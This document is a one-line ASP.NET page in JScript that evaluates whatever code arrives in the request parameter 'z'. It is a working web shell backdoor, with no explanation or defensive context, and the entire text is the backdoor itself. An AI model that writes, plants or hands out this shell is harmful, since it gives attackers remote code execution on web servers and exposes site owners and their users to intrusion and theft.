<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>
